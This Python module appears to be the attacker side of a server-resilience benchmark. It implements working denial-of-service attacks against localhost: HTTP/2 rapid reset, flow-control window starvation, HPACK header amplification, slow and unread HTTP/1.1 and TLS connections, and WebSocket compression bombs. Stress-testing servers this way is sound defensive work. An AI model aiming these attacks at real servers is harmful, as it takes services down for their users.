"""The attacks of bench/hostile. Each does a fixed amount of work against one server and then holds what it has opened
until it is ended, as an attacker would. None needs more than a few megabytes of its own."""

import itertools
import os
import resource
import socket
import ssl
import struct
import threading
import time
import zlib

from .hostile import PREFACE, frame, get

# SETTINGS: INITIAL_WINDOW_SIZE 0, and the largest one.
NO_CREDIT = PREFACE + frame(4, 0, 0, b"\x00\x04\x00\x00\x00\x00")
ALL_CREDIT = PREFACE + frame(4, 0, 0, b"\x00\x04\x7f\xff\xff\xff")
MORE_FOR_ALL = frame(8, 0, 0, b"\x7f\xff\x00\x00")
RESET = b"\0\0\0\x08"
# A message to /ws/stream, which is answered with tokens.
TOKENS = b"count=10000&bytes=65536&every_ms=1"
# Of a WebSocket's message before compression: below the 16 MiB that most servers take.
BOMB = 16_000_000


def integer(value, bits=7, first=0):
    """RFC 7541, section 5.1."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    said, value = [first | most], value - most
    while value >= 128:
        said.append(value % 128 + 128)
        value //= 128
    return bytes(said + [value])


def text(value):
    return integer(len(value)) + value


def literal(name, value):
    """A field that no table takes."""
    return b"\x00" + text(name) + text(value)


serial = itertools.count()


def fresh(path):
    """Where the path has a seed, each request has another one, so that no answer is kept for the next."""
    return path.replace(b"SEED", b"%d" % next(serial))


def head(method, path):
    """The header block of a request: two static fields, the path, and the authority `a`."""
    return (b"\x82" if method == b"GET" else b"\x83") + b"\x86\x04" + text(fresh(path)) + b"\x01\x01a"


def headers(stream, block, end=True):
    return frame(1, 5 if end else 4, stream, block)


def streams(count):
    return range(1, 2 * count, 2)


def asked(path, count=100):
    """So many requests over HTTP/2."""
    return b"".join(headers(id, head(b"GET", path)) for id in streams(count))


def gets(path, count=1):
    """So many requests over HTTP/1.1."""
    return b"".join(get(fresh(path)) for _ in range(count))


class Peer:
    """A connection of an attacker's. Sends never wait for long: whoever is not read gives up."""

    def __init__(self, port, said=b"", small=False):
        self.socket = socket.socket()
        if small:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        self.socket.settimeout(2)
        try:
            self.socket.connect(("127.0.0.1", port))
        except OSError:
            pass
        self.send(said)

    def send(self, said):
        """Whether it went out."""
        try:
            self.socket.sendall(said)
            return True
        except OSError:
            return False

    def drain(self):
        """Reads and forgets until the peer ends the connection."""
        threading.Thread(target=self.read, daemon=True).start()

    def read(self):
        try:
            self.socket.settimeout(None)
            while self.socket.recv(65536):
                pass
        except OSError:
            pass


def connections(count, port, said=b"", small=False):
    return [Peer(port, said, small) for _ in range(count)]


def rapid_reset(ports, path):
    """4 connections, 1,000 requests each, each reset at once"""
    for one in connections(4, ports["h2c"], ALL_CREDIT + MORE_FOR_ALL):
        one.drain()
        for first in range(0, 1000, 50):
            each = (2 * number + 1 for number in range(first, first + 50))
            if not one.send(b"".join(headers(id, head(b"GET", path)) + frame(3, 0, id, RESET) for id in each)):
                break


def reset_of_posts(ports, path):
    """4 connections, 1,000 requests each with one byte of a body, each reset at once"""
    for one in connections(4, ports["h2c"], ALL_CREDIT + MORE_FOR_ALL):
        one.drain()
        block = head(b"POST", path)
        for first in range(0, 1000, 50):
            each = (2 * number + 1 for number in range(first, first + 50))
            said = (headers(id, block, False) + frame(0, 0, id, b"x") + frame(3, 0, id, RESET) for id in each)
            if not one.send(b"".join(said)):
                break


def opened(stream, path):
    """A WebSocket over HTTP/2 (RFC 8441) that asks for tokens without end; of a server without them, a file."""
    if not path.startswith(b"/ws/"):
        return headers(stream, head(b"GET", path))
    block = (literal(b":method", b"CONNECT") + literal(b":protocol", b"websocket") + b"\x86\x04" + text(path)
             + b"\x01\x01a" + literal(b"sec-websocket-version", b"13"))
    return headers(stream, block, False) + frame(0, 0, stream, web_socket_frame(0x81, TOKENS))


def socket_reset(ports, path):
    """4 connections, 1,000 WebSockets each (CONNECT of RFC 8441) that ask for tokens, each reset at once"""
    for one in connections(4, ports["h2c"], ALL_CREDIT + MORE_FOR_ALL):
        one.drain()
        for first in range(0, 1000, 50):
            each = (2 * number + 1 for number in range(first, first + 50))
            if not one.send(b"".join(opened(id, path) + frame(3, 0, id, RESET) for id in each)):
                break


def socket_window_zero(ports, path):
    """4 connections, 100 WebSockets each (CONNECT of RFC 8441) that ask for tokens, no credit for any byte"""
    for one in connections(4, ports["h2c"], NO_CREDIT):
        one.drain()
        one.send(b"".join(opened(id, path) for id in streams(100)))


def window_zero(ports, path, count=4):
    """4 connections, 100 requests each, no credit for any byte"""
    for one in connections(count, ports["h2c"], NO_CREDIT):
        one.drain()
        one.send(asked(path))


def window_zero_many(ports, path):
    """20 connections, 100 requests each, no credit for any byte"""
    window_zero(ports, path, 20)


def connection_window(ports, path):
    """20 connections, 100 requests each, credit for every stream and none for the connection"""
    for one in connections(20, ports["h2c"], ALL_CREDIT):
        one.drain()
        one.send(asked(path))


def one_byte_updates(ports, path):
    """4 connections, 100 requests each, no credit but one byte now and then"""
    held = connections(4, ports["h2c"], NO_CREDIT)
    for one in held:
        one.drain()
        one.send(asked(path))
    while True:
        for one in held:
            one.send(b"".join(frame(8, 0, id, b"\0\0\0\x01") for id in streams(100)))
        time.sleep(0.25)


def unread(ports, path):
    """200 HTTP/1.1 connections, one request each, nothing is read"""
    return [Peer(ports["http"], gets(path), small=True) for _ in range(200)]


def pipelined(ports, path):
    """20 HTTP/1.1 connections, 200 requests each at once, nothing is read"""
    return [Peer(ports["http"], gets(path, 200), small=True) for _ in range(20)]


def unread_h2(ports, path):
    """20 connections, 100 requests each, all the credit that there is, nothing is read"""
    return [Peer(ports["h2c"], ALL_CREDIT + MORE_FOR_ALL + asked(path), small=True) for _ in range(20)]


def secured(count, port, alpn, said):
    """TLS connections that say this after the handshake."""
    context = ssl._create_unverified_context()
    context.set_alpn_protocols([alpn])
    held = []
    for one in connections(count, port, small=True):
        try:
            held.append(context.wrap_socket(one.socket))
            held[-1].sendall(said())
        except OSError:
            pass
    return held


def unread_tls(ports, path):
    """100 TLS connections, one request each, nothing is read"""
    return secured(100, ports["https"], "http/1.1", lambda: gets(path))


def slow_tls(ports, path):
    """100 TLS connections, one request each, of which one byte is taken now and then"""
    held = secured(100, ports["https"], "http/1.1", lambda: gets(path))
    while True:
        for one in held:
            try:
                # Of the connection, not of a record: TLS would take a whole one.
                os.read(one.fileno(), 1)
            except OSError:
                pass
        time.sleep(0.25)


def unread_tls_h2(ports, path):
    """20 TLS connections over HTTP/2, 100 requests each, all the credit that there is, nothing is read"""
    return secured(20, ports["https"], "h2", lambda: ALL_CREDIT + MORE_FOR_ALL + asked(path))


def references(ports, path):
    """4 connections, 100 requests each whose 14 fields of 4,000 bytes are one byte each (HPACK), no credit"""
    large = b"\x40" + text(b"x") + text(b"y" * 4000)
    for one in connections(4, ports["h2c"], NO_CREDIT):
        one.drain()
        one.send(headers(1, head(b"GET", path) + large))
        # The newest field of the dynamic table has index 62 (RFC 7541, section 2.3.3).
        block = head(b"GET", path) + b"\xbe" * 14
        one.send(b"".join(headers(id, block) for id in list(streams(100))[1:]))


def long_paths(ports, path):
    """4 connections, 100 requests each with a target of 15,000 bytes, no credit"""
    block = head(b"GET", path + b"x" * 15_000)
    for one in connections(4, ports["h2c"], NO_CREDIT):
        one.drain()
        for id in streams(100):
            one.send(headers(id, block))


def one_byte_data(ports, path):
    """one connection, no credit for the answer, 1,000,000 DATA frames of one byte over 100 requests"""
    one = Peer(ports["h2c"], NO_CREDIT)
    one.drain()
    one.send(b"".join(headers(id, head(b"POST", path), False) for id in streams(100)))
    said = b"".join(frame(0, 0, id, b"x") for id in streams(100)) * 10
    for _ in range(1000):
        if not one.send(said):
            return


class Credit:
    """The connection's window as the peer gives it, read from its frames."""

    def __init__(self, one):
        self.one, self.left, self.changed = one, 65535, threading.Condition()
        threading.Thread(target=self.read, daemon=True).start()

    def read(self):
        stream = self.one.socket.makefile("rb")
        self.one.socket.settimeout(None)
        try:
            while head := stream.read(9):
                length, kind, id = int.from_bytes(head[:3], "big"), head[3], int.from_bytes(head[5:], "big")
                payload = stream.read(length)
                if kind == 8 and id == 0:
                    with self.changed:
                        self.left += int.from_bytes(payload, "big")
                        self.changed.notify()
        except OSError:
            pass

    def send(self, stream, said):
        """DATA of 16 KiB at most, as far as there is credit within some time."""
        while said:
            with self.changed:
                if not self.changed.wait_for(lambda: self.left > 0, timeout=1):
                    return
                part = said[:min(self.left, 16384)]
                self.left -= len(part)
            if not self.one.send(frame(0, 0, stream, part)):
                return
            said = said[len(part):]


def bombs(sockets, said):
    """WebSockets over one HTTP/2 connection (RFC 8441) that say this, and read nothing."""
    one = Peer(sockets.port, NO_CREDIT)
    credit = Credit(one)
    time.sleep(0.3)
    block = (literal(b":method", b"CONNECT") + literal(b":protocol", b"websocket") + b"\x86\x04" + text(b"/ws/echo")
             + b"\x01\x01a" + literal(b"sec-websocket-version", b"13")
             + literal(b"sec-websocket-extensions", b"permessage-deflate"))
    for id in streams(sockets.count):
        one.send(headers(id, block, False))
    for id in streams(sockets.count):
        credit.send(id, said)


class Sockets:
    def __init__(self, port, count):
        self.port, self.count = port, count


def deflated(length):
    coder = zlib.compressobj(9, zlib.DEFLATED, -15)
    return coder.compress(bytes(length)) + coder.flush(zlib.Z_SYNC_FLUSH)[:-4]


def web_socket_frame(first, said):
    """Masked with zeros. The length has as few bytes as it can (RFC 6455, section 5.2)."""
    if len(said) < 126:
        length = bytes([0x80 | len(said)])
    elif len(said) < 65536:
        length = b"\xfe" + struct.pack(">H", len(said))
    else:
        length = b"\xff" + struct.pack(">Q", len(said))
    return bytes([first]) + length + bytes(4) + said


def bomb_begun(ports, _path):
    """one HTTP/2 connection, 100 WebSockets, on each a message that inflates to 16 MB and never ends"""
    # RSV1 and binary, without FIN.
    bombs(Sockets(ports["h2c"], 100), web_socket_frame(0x42, deflated(BOMB)))


def bomb_unread(ports, _path):
    """one HTTP/2 connection, 100 WebSockets, on each a message that inflates to 16 MB and whose echo is not read"""
    bombs(Sockets(ports["h2c"], 100), web_socket_frame(0xC2, deflated(BOMB)))


def raise_limit():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def run(attack, ports, path, process):
    """The body of an attacker's process: attacks, then holds what it opened, and counts where it is to be counted."""
    raise_limit()
    # What it returns is open as long as this process lives.
    held = attack(ports, path)
    process.done.set()
    until = time.monotonic() + 600
    while time.monotonic() < until:
        if hasattr(held, "ratio"):
            process.ratio.value = held.ratio()
        time.sleep(0.05)
